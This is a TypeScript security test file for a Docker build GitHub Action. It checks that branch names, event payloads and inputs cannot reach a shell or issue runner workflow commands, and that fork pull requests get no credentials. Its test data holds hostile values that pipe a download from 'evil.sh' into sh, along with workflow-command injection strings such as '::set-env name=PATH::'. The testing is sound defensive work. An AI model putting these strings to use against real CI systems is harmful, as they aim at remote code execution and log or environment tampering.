// Hostile names and payloads through the bundled action: branch names that are valid git refs
// but shell-injection attempts reach docker only as sanitised tags in argument arrays and no
// shell ever runs; payload fields cannot issue workflow commands; a pull_request_target run for
// a fork is refused before anything runs; a fork pull_request builds without credentials.

import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ActionResult, ActionRun } from '../harness/runner.js';
import { makeWorkspace, type Workspace } from '../harness/workspace.js';
import {
  HAS_STRACE,
  SECRETS,
  SHELLS,
  base64,
  leakOf,
  loadEvent,
  makeRecording,
  nodeUnderStrace,
  refsOf,
  runWithSecrets,
  serviceFiles,
  shellSpawns,
  startRecordingServer,
  tempDir,
  treeDigest,
  unintendedCommands,
  type DockerCall,
  type Recording,
  type RecordingServer,
} from './hostile-support.js';

const ACTOR = 'jana-novak';
const IMAGE = 'ghcr.io/ftmo-labs/signal-engine';

// Valid git branch names (git check-ref-format --branch accepts them) that are shell code.
const HOSTILE_BRANCHES = [
  // [branch, its tag: runs outside [A-Za-z0-9_.-] become one '-', then '-<sha7>' of the workspace's commit]
  ['feat/$(curl${IFS}evil.sh|sh)', 'feat-curl-IFS-evil.sh-sh--{sha}'],
  ['feat/`curl${IFS}evil.sh|sh`', 'feat-curl-IFS-evil.sh-sh--{sha}'],
  ['zzz";echo${IFS}"hello";#', 'zzz-echo-IFS-hello--{sha}'],
] as const;
const SHELL_CHARACTERS = ['$', '`', ';', '"', '|', '(', ')', '${IFS}'];

// Every docker call the action may make, by its leading arguments.
const DOCKER_CALLS = [
  ['--version'],
  ['version'],
  ['login'],
  ['buildx', 'version'],
  ['buildx', 'inspect'],
  ['buildx', 'build'],
  ['buildx', 'imagetools', 'inspect'],
  ['buildx', 'imagetools', 'create'],
];
const TRIVY_CALLS = ['--version', 'image', 'convert'];

let tmp: Awaited<ReturnType<typeof tempDir>>;
let ws: Workspace;
let server: RecordingServer;
let runs = 0;

beforeAll(async () => {
  tmp = await tempDir('ftmo-hostile-refs-');
  server = await startRecordingServer();
  ws = await makeWorkspace({ files: serviceFiles(IMAGE) });
}, 60_000);

afterAll(async () => {
  await server?.close();
  await ws?.dispose();
  await tmp?.dispose();
});

function pushPayload(branch: string): Record<string, unknown> {
  return { ...loadEvent('push'), ref: `refs/heads/${branch}` };
}

/** One run with fresh call logs; the trivy fake is given as trivy-path, so nothing is downloaded. */
function run(options: Partial<ActionRun> & Pick<ActionRun, 'event' | 'payload' | 'ref' | 'sha'>): Promise<{ result: ActionResult; rec: Recording }> {
  return runWithSecrets(path.join(tmp.dir, `run-${++runs}`), `${server.url}/run-${runs}`, {
    workspace: ws.dir,
    actor: ACTOR,
    ...options,
    // Build avoidance has its own tests (build-avoidance.test.ts): here a build pushes exactly its tags.
    inputs: { service: 'signal-engine', 'skip-unchanged': 'false', ...options.inputs },
  });
}

/** The values following each `flag` in an argv. */
function flagValues(argv: string[], flag: string): string[] {
  return argv.flatMap((arg, index) => (index > 0 && argv[index - 1] === flag ? [arg] : []));
}

function buildCall(rec: Recording): DockerCall {
  const builds = rec.docker().filter((call) => call.argv[0] === 'buildx' && call.argv[1] === 'build');
  expect(builds).toHaveLength(1);
  return builds[0] as DockerCall;
}

/** The forms of the run's secrets the action masks. */
function allowedMasks(): string[] {
  const forms = (secret: string): string[] => [secret, base64(secret), base64(`${ACTOR}:${secret}`), base64(`x-access-token:${secret}`)];
  return [SECRETS.registryPassword, SECRETS.manifestsToken, SECRETS.githubToken].flatMap(forms);
}

/** The processes the action started other than docker and trivy: git, reading the workspace's commit, only. */
function expectOnlyHeadRead(rec: Recording): void {
  const others = rec.actionSpawns().filter((spawn) => !['docker', 'trivy'].includes(path.basename(spawn.file)));
  expect(others.map((spawn) => [spawn.file, ...spawn.args.slice(-4)])).toEqual([['git', 'rev-parse', '--verify', '--quiet', 'HEAD^{commit}']]);
}

/** A table tag with `{sha}` as the workspace's commit (sha-length 7). */
function withSha(tag: string): string {
  return tag.replace('{sha}', ws.sha.slice(0, 7));
}

/** Nothing started a shell: no fake shell was called and no process was started as one. */
function expectNoShell(rec: Recording): void {
  expect(rec.calls().filter((call) => SHELLS.includes(call.name))).toEqual([]);
  expect(shellSpawns(rec.spawns())).toEqual([]);
}

describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tagWithSha) => {
  it('plan mode: the tag is sanitised, nothing runs', async () => {
    const tag = withSha(tagWithSha);
    const { result, rec } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: ws.sha, inputs: { mode: 'plan' } });
    try {
      expect(result.code).toBe(0);
      expect(result.outputs.version).toBe(tag);
      expect(result.outputs.tags).toBe(`${IMAGE}:${tag}`);
      const plan = JSON.parse(result.outputs.plan ?? '{}') as { build: { args: string[] } };
      expect(flagValues(plan.build.args, '--tag')).toEqual([`${IMAGE}:${tag}`]);
      expect(flagValues(plan.build.args, '--label')).toContain(`org.opencontainers.image.version=${tag}`);
      expect(rec.docker()).toEqual([]);
      expect(rec.trivy()).toEqual([]);
      expect(rec.calls()).toEqual([]);
      expectOnlyHeadRead(rec);
      expectNoShell(rec);
      expect(unintendedCommands(result.stdout, allowedMasks())).toEqual([]);
      expect(leakOf(result, Object.values(SECRETS))).toBe('');
    } finally {
      await result.dispose();
    }
  });

  it('a full build: docker gets the sanitised tag as one argument, no shell runs', async () => {
    const tag = withSha(tagWithSha);
    const { result, rec } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: ws.sha });
    try {
      expect(result.code).toBe(0);
      expect(result.outputs.version).toBe(tag);
      expect(result.outputs['scan-result']).toBe('passed');

      const build = buildCall(rec);
      expect(flagValues(build.argv, '--tag')).toEqual([`${IMAGE}:${tag}`]);
      expect(flagValues(build.argv, '--label')).toContain(`org.opencontainers.image.version=${tag}`);
      expect(build.argv).toContain('--push');
      for (const call of rec.docker()) {
        expect(DOCKER_CALLS.some((prefix) => prefix.every((arg, i) => call.argv[i] === arg)), JSON.stringify(call.argv)).toBe(true);
        for (const arg of call.argv) {
          for (const bad of [branch, ...SHELL_CHARACTERS]) expect(arg, JSON.stringify(call.argv)).not.toContain(bad);
        }
      }
      for (const call of rec.trivy()) {
        expect(TRIVY_CALLS).toContain(call.argv[0]);
        for (const arg of call.argv) for (const bad of [branch, ...SHELL_CHARACTERS]) expect(arg).not.toContain(bad);
      }
      expect(rec.trivy().filter((call) => call.argv[0] === 'image' && call.argv.includes('--platform'))).toHaveLength(2);

      // Only docker, trivy and the read of HEAD were started, never through a shell; no other fake was called.
      const started = new Set(rec.actionSpawns().map((spawn) => path.basename(spawn.file)));
      expect([...started].sort()).toEqual(['docker', 'git', 'trivy']);
      expectOnlyHeadRead(rec);
      expect(rec.calls()).toEqual([]);
      expectNoShell(rec);
      expect(server.requests.filter((request) => request.url.startsWith(`/run-${runs}/`))).toEqual([]);
      expect(unintendedCommands(result.stdout, allowedMasks())).toEqual([]);
      expect(leakOf(result, Object.values(SECRETS))).toBe('');
    } finally {
      await result.dispose();
    }
  });
});

describe.skipIf(!HAS_STRACE)('with strace', () => {
  it('a full build for a hostile branch executes no shell anywhere in the process tree', async () => {
    const [branch, tagWithSha] = HOSTILE_BRANCHES[0];
    const tag = withSha(tagWithSha);
    const log = path.join(tmp.dir, 'strace.log');
    const wrapper = await nodeUnderStrace(tmp.dir, log);
    const { result } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: ws.sha, node: wrapper });
    try {
      expect(result.code).toBe(0);
      expect(result.outputs.version).toBe(tag);
      const programs = execFileSync('cat', [log], { encoding: 'utf8' })
        .split('\n')
        .map((line) => /execve\("([^"]+)"/.exec(line)?.[1])
        .filter((file): file is string => file !== undefined);
      // The detection works: docker and trivy (node scripts) were seen.
      expect(programs.some((file) => file.endsWith('/docker'))).toBe(true);
      expect(programs.some((file) => file.endsWith('/trivy'))).toBe(true);
      expect(programs.filter((file) => SHELLS.includes(path.basename(file)))).toEqual([]);
    } finally {
      await result.dispose();
    }
  });
});

describe('payload fields and inputs cannot issue workflow commands', () => {
  const HOSTILE_TEXT = [
    '::add-mask::x',
    '::stop-commands::abc',
    '%0A::error::pwned',
    'x\n::error::pwned',
    '##[error]pwned',
    '##[add-mask]x',
    '##[stop-commands]abc',
  ];

  it.each(HOSTILE_TEXT)('pull request head ref %j', async (text) => {
    const event = loadEvent('pull_request');
    const pr = event.pull_request as { head: Record<string, unknown> };
    pr.head = { ...pr.head, ref: text, label: `Ftmo-Labs:${text}` };
    const { result, rec } = await run({ event: 'pull_request', payload: event, ref: 'refs/pull/42/merge', sha: ws.sha, inputs: { mode: 'plan' } });
    try {
      // Not a name git could hold, so not a payload GitHub wrote: refused, shown escaped.
      expect(result.code).toBe(1);
      expect(result.errors).toHaveLength(1);
      expect(result.errors[0]).toContain('event payload pull_request.head.ref: must be a git branch name');
      expect(unintendedCommands(result.stdout, allowedMasks())).toEqual([]);
      expect(result.masks.every((mask) => allowedMasks().includes(mask))).toBe(true);
      expect(rec.actionSpawns()).toEqual([]);
    } finally {
      await result.dispose();
    }
  });

  it.each(HOSTILE_TEXT)('repository default branch %j', async (text) => {
    const event = loadEvent('push');
    event.repository = { ...(event.repository as object), default_branch: text };
    const { result, rec } = await run({ event: 'push', payload: event, ref: 'refs/heads/main', sha: ws.sha, inputs: { mode: 'plan' } });
    try {
      expect(result.code).toBe(1);
      expect(result.errors).toHaveLength(1);
      expect(result.errors[0]).toContain('event payload repository.default_branch: must be a git branch name');
      expect(unintendedCommands(result.stdout, allowedMasks())).toEqual([]);
      expect(result.masks.every((mask) => allowedMasks().includes(mask))).toBe(true);
      expect(rec.actionSpawns()).toEqual([]);
    } finally {
      await result.dispose();
    }
  });

  // The runner reads `##[name]` anywhere in a line: the plan, logged with its input values
  // (build-args values, paths, provenance), must not carry one unescaped.
  it('an input value carried by the plan (build-args) cannot issue a command', async () => {
    const { result } = await run({
      event: 'push',
      payload: loadEvent('push'),
      ref: 'refs/heads/main',
      sha: ws.sha,
      inputs: { mode: 'plan', 'build-args': 'TITLE=##[stop-commands]pwned' },
    });
    try {
      expect(unintendedCommands(result.stdout, allowedMasks())).toEqual([]);
    } finally {
      await result.dispose();
    }
  });

  it('the shell detection sees a shell started by name or by Node', async () => {
    const rec = await makeRecording(path.join(tmp.dir, 'detect'));
    const script = [
      "const cp = require('node:child_process');",
      "cp.execSync('true');",
      "cp.spawnSync('true', [], { shell: true });",
      "cp.spawnSync('sh', ['-c', 'true']);",
      "cp.exec('true', () => {});",
    ].join(' ');
    execFileSync(process.execPath, ['-e', script], { env: { ...process.env, ...rec.env } });
    expect(shellSpawns(rec.spawns()).map((spawn) => spawn.kind)).toEqual(['execSync', 'spawnSync', 'spawnSync', 'spawn']);
    // The fake sh first on PATH was the one started by name.
    expect(rec.calls().map((call) => [call.name, ...call.argv])).toEqual([['sh', '-c', 'true']]);
  });

  it('the check itself sees an injected command', () => {
    expect(unintendedCommands('  "refName": "x ##[error]pwned",\n', [])).toHaveLength(1);
    expect(unintendedCommands('::stop-commands::abc\n', [])).toHaveLength(1);
    expect(unintendedCommands('::add-mask::attacker\n', [])).toHaveLength(1);
    expect(unintendedCommands('  ::set-env name=PATH::/tmp\n', [])).toHaveLength(1);
    expect(unintendedCommands('::add-mask::ghs_x\n', ['ghs_x'])).toEqual([]);
    // The build's own pause: commands inside it are not read by the runner.
    const pause = '0b6e3f4a-9d2c-4c71-8f5e-2a1b3c4d5e6f';
    expect(unintendedCommands(`::stop-commands::${pause}\n::set-env name=A::b\n::${pause}::\n`, [])).toEqual([]);
  });
});

describe('pull requests from forks', () => {
  it('pull_request_target for a fork is refused before anything runs', async () => {
    const before = { tree: await treeDigest(ws.dir), refs: refsOf(ws.remote) };
    const { result, rec } = await run({
      event: 'pull_request_target',
      payload: loadEvent('pull_request_target_fork'),
      ref: 'refs/heads/main',
      sha: '9bf9df18db7e66a582c4dbb5dde49694c3df8805',
    });
    try {
      expect(result.code).toBe(1);
      expect(result.errors).toHaveLength(1);
      expect(result.errors[0]).toContain('pull_request_target');
      expect(result.errors[0]).toContain('"mallory-dev/dax-trading"');
      expect(result.errors[0]).toContain('"Ftmo-Labs/dax-trading"');
      expect(result.errors[0]).toMatch(/pull_request event/);
      expect(rec.docker()).toEqual([]);
      expect(rec.trivy()).toEqual([]);
      expect(rec.calls()).toEqual([]);
      expect(rec.actionSpawns()).toEqual([]);
      expect(server.requests.filter((request) => request.url.startsWith(`/run-${runs}/`))).toEqual([]);
      expect(await treeDigest(ws.dir)).toBe(before.tree);
      expect(refsOf(ws.remote)).toBe(before.refs);
      expect(leakOf(result, Object.values(SECRETS))).toBe('');
    } finally {
      await result.dispose();
    }
  });

  it('a fork pull_request builds without logging in or pushing', async () => {
    const { result, rec } = await run({
      event: 'pull_request',
      payload: loadEvent('pull_request_fork'),
      ref: 'refs/pull/57/merge',
      sha: ws.sha,
      inputs: { push: 'true' },
    });
    try {
      expect(result.code).toBe(0);
      const calls = rec.docker();
      expect(calls.filter((call) => call.argv[0] === 'login')).toEqual([]);
      expect(calls.filter((call) => call.stdin !== '')).toEqual([]);
      expect(calls.flatMap((call) => call.inputs)).toEqual([]);
      const build = buildCall(rec);
      expect(build.argv).not.toContain('--push');
      expect(flagValues(build.argv, '--output')).toEqual(['type=cacheonly']);
      expect(flagValues(build.argv, '--tag')).toEqual([`${IMAGE}:pr-57`, `${IMAGE}:pr-57-${ws.sha.slice(0, 7)}`]);
      expect(calls.filter((call) => call.argv[1] === 'imagetools')).toEqual([]);
      expect(rec.trivy()).toEqual([]);
      expect(result.outputs.digest).toBe('');
      expect(result.outputs['manifests-changed']).toBe('false');
      expectNoShell(rec);
      expect(leakOf(result, Object.values(SECRETS))).toBe('');
    } finally {
      await result.dispose();
    }
  });
});
